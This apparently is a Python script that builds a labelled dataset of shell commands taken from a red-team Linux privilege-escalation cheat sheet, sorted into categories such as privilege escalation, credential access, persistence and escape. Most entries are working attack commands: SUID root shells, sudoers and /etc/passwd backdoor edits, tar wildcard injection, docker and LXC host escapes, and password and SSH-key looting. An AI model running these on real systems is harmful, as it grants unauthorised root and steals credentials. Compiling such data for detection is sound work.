S("swisskyrepo/InternalAllTheThings", "docs/redteam/escalation/linux-privilege-escalation.md",
  "70e0976e7194ac0599d1d809684a05cd3684564e")
add("public_host", None, "Tools", r'''
wget "https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh" -O linpeas.sh
curl "https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh" -o linpeas.sh
wget "https://raw.githubusercontent.com/diego-treitos/linux-smart-enumeration/master/lse.sh" -O lse.sh
curl "https://raw.githubusercontent.com/diego-treitos/linux-smart-enumeration/master/lse.sh" -o lse.sh
git clone https://github.com/g0tmi1k/debian-ssh
git clone https://github.com/saghul/lxd-alpine-builder
''')
add(M, "privilege_escalation", "Tools / SUID / Capabilities / SUDO / Wildcard / Writable files / NFS / Shared Library / Groups / Kernel", r'''
./linpeas.sh -a
./linpeas.sh -s
./linpeas.sh -P
./lse.sh -l1
./lse.sh -l2
./LinEnum.sh -s -k keyword -r report -e /tmp/ -t
find / -perm -4000 -type f -exec ls -la {} 2>/dev/null \;
find / -uid 0 -perm -4000 -type f 2>/dev/null
print 'int main(void){\nsetresuid(0, 0, 0);\nsystem("/bin/sh");\n}' > /tmp/suid.c
sudo chmod +s /tmp/suid
/usr/bin/getcap -r  /usr/bin
sudo /usr/bin/setcap cap_setuid+ep /usr/bin/python2.7
python2.7 -c 'import os; os.setuid(0); os.system("/bin/sh")'
sudo LD_PRELOAD=/tmp/shell.so find
sudo -u#-1 /bin/bash
sudo -u#4294967295 id
touch -- "--checkpoint=1"
touch -- "--checkpoint-action=exec=sh shell.sh"
echo "#\!/bin/bash\ncat /etc/passwd > /tmp/flag\nchmod 777 /tmp/flag" > shell.sh
find / -writable ! -user `whoami` -type f ! -path "/proc/*" ! -path "/sys/*" -exec ls -al {} \; 2>/dev/null
find / -perm -2 -type f 2>/dev/null
find / ! -path "*/proc/*" -perm -2 -type f -print 2>/dev/null
echo 'dummy::0:0::/root:/bin/bash' >>/etc/passwd
su - dummy
echo "username ALL=(ALL:ALL) ALL">>/etc/sudoers
echo "username ALL=(ALL) NOPASSWD: ALL" >>/etc/sudoers
echo "username ALL=NOPASSWD: /bin/bash" >>/etc/sudoers
mount -t nfs 10.10.10.10:/shared /tmp/nfsdir
chmod +s bash
echo "/tmp/" > /etc/ld.so.conf.d/exploit.conf && ldconfig -l /tmp/vulnlib.so
docker run -it --rm -v $PWD:/mnt bash
echo 'toor:$1$.ZcF5ts0$i4k6rQYzeegUkacRCvfxC0:0:0:root:/root:/bin/sh' >> /mnt/etc/passwd
docker run --rm -it --pid=host --net=host --privileged -v /:/host ubuntu bash
docker run -v /:/hostOS -i -t chrisfosterelli/rootplease
sudo docker -H unix:///google/host/var/run/docker.sock run -v /:/host -it ubuntu chroot /host /bin/bash
sudo docker -H unix:///google/host/var/run/docker.sock run -it --privileged --pid=host debian nsenter -t 1 -m -u -n -i sh
lxc init myimage mycontainer -c security.privileged=true
lxc config device add mycontainer mydevice disk source=/ path=/mnt/root recursive=true
lxc exec mycontainer /bin/sh
export TMUX=/tmp/tmux-1000/default,1234,0
echo 0 > /proc/sys/vm/dirty_writeback_centisecs
g++ -Wall -pedantic -O2 -std=c++11 -pthread -o dcow 40847.cpp -lutil
searchsploit -w linux kernel centos
''')
add(M, "credential_access", "Looting for passwords / SSH Key", r'''
grep --color=auto -rnw '/' -ie "PASSWORD" --color=always 2> /dev/null
find . -type f -exec grep -i -I "PASSWORD" {} /dev/null \;
strings /dev/mem -n10 | grep -i PASS
gcore 4242 -o dumpfile
strings -n 5 dumpfile | grep -i pass
locate password | more
find / -name authorized_keys 2> /dev/null
find / -name id_rsa 2> /dev/null
''', note="<pid> placeholder replaced by 4242")
add(M, "persistence", "SSH Key Predictable PRNG", r'''
echo "PubkeyAcceptedKeyTypes=+ssh-dss" >> /etc/ssh/sshd_config
''')
add("escape", None, "SUDO / GTFOBins / LXC", r'''
sudo vim -c '!sh'
sudo -u root vim -c '!sh'
gdb -nx -ex '!sh' -ex quit
sudo mysql -e '\! /bin/sh'
strace -o /dev/null /bin/sh
sudo awk 'BEGIN {system("/bin/sh")}'
''')
add("ordinary", None, "Looting / Shared Library / RPATH", r'''
ps -eo pid,command
find / -mmin -10 2>/dev/null | grep -Ev "^/proc"
ldd /opt/binary
readelf -d flag15 | egrep "NEEDED|RPATH"
tar vjxf common_keys/debian_ssh_dsa_1024_x86.tar.bz2
systemctl list-timers --all
''')
